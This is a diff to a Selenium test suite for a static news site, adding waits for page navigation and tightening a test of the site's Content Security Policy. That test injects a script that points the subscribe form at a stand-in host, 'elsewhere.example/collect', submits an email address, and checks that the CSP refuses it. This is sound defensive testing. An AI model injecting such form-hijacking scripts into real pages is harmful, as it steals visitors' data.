@@ -186,6 +186,12 @@ class Browser:
     def script(self, source: str) -> Any:
         return self.driver.execute_script(source)
 
+    def wait_for_url(self, url: str, seconds: float = 10) -> None:
+        """Until a navigation started by a click or a submit has reached ``url`` (fails on timeout)."""
+        from selenium.webdriver.support.wait import WebDriverWait
+
+        WebDriverWait(self.driver, seconds).until(lambda driver: driver.current_url == url)
+
 
 @pytest.fixture(scope="module")
 def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
@@ -283,9 +289,9 @@ def test_the_links_between_pages_work(browser: Browser, base_url: str) -> None:
 
     browser.open(base_url + "index.html", *DESKTOP)
     browser.driver.find_element(By.LINK_TEXT, "阅读最新一期").click()
-    assert browser.driver.current_url == f"{base_url}reports/{DAY}.html"
+    browser.wait_for_url(f"{base_url}reports/{DAY}.html")
     browser.driver.find_element(By.PARTIAL_LINK_TEXT, "上一期").click()
-    assert browser.driver.current_url == f"{base_url}reports/{PREVIOUS_DAY.isoformat()}.html"
+    browser.wait_for_url(f"{base_url}reports/{PREVIOUS_DAY.isoformat()}.html")
     assert browser.driver.find_elements(By.CSS_SELECTOR, "article.item") == []  # it had no items
     assert browser.errors() == []
 
@@ -294,6 +300,7 @@ def test_the_subscribe_form_fits_a_phone_and_the_site_s_csp_lets_it_post_to_the_
     browser: Browser, base_url: str
 ) -> None:
     from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.wait import WebDriverWait
 
     # Given the edition page on a phone, served with the CloudFront headers of template.yaml
     browser.open(base_url + f"reports/{DAY}.html", *PHONE)
@@ -312,14 +319,23 @@ def test_the_subscribe_form_fits_a_phone_and_the_site_s_csp_lets_it_post_to_the_
     # When a reader subscribes, the post leaves for the API (no name resolves here: it goes no further)
     field.send_keys("reader@example.org")
     button.click()
+    # (its navigation ends on the browser's error page: left pending, it could replace the next page)
+    browser.wait_for_url(SUBSCRIBE_URL)
     assert csp_violations() == []
     # And a form sent anywhere else is refused by the CSP (what proves the check above can fail)
     browser.open(base_url + f"reports/{DAY}.html", *PHONE)
+    WebDriverWait(browser.driver, 10).until(
+        lambda driver: driver.find_elements(By.CSS_SELECTOR, "section.subscribe form")
+    )
     browser.script(
         "const f = document.querySelector('section.subscribe form');"
         "f.action = 'https://elsewhere.example/collect'; f.email.value = 'a@example.org'; f.submit();"
     )
-    assert any("elsewhere.example" in message for message in csp_violations())
+    seen: list[str] = []
+    WebDriverWait(browser.driver, 10).until(
+        lambda _: seen.extend(csp_violations()) or any("elsewhere.example" in m for m in seen)
+    )
+    assert browser.driver.current_url == f"{base_url}reports/{DAY}.html"  # and the page stayed
 
 
 def contrast(foreground: str, background: str) -> float:
